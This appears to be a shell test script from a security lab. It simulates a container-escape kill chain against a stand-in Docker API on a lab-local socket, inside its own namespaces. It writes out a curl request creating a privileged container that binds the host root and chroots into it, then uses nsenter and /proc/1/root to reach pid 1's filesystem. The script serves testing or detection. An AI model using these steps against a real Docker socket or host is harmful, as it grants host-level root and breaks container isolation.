#!/bin/sh
# Kill chain, container escape and abuse (run by ns.sh in pid and mount namespaces of its
# own, whose pid 1 is ns.sh): a create request for a privileged container with the host's
# root bound, sent with curl to a Docker API stand-in on a unix socket of the lab's; nsenter
# into pid 1's mount namespace (the lab's); a file written through /proc/1/root into the
# lab's temporary directory.
set -eu
mkdir -p "$LAB_TMP/kc"
sock="$LAB_TMP/kc/docker.sock"
labtool dockerapi "$sock" &
labtool waitfile "$sock"
curl -s --unix-socket "$sock" -H 'Content-Type: application/json' \
	-d '{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
	http://docker/v1.43/containers/create || true
wait
nsenter -t 1 -m -- true
echo escaped > "/proc/1/root$LAB_TMP/kc/escape"
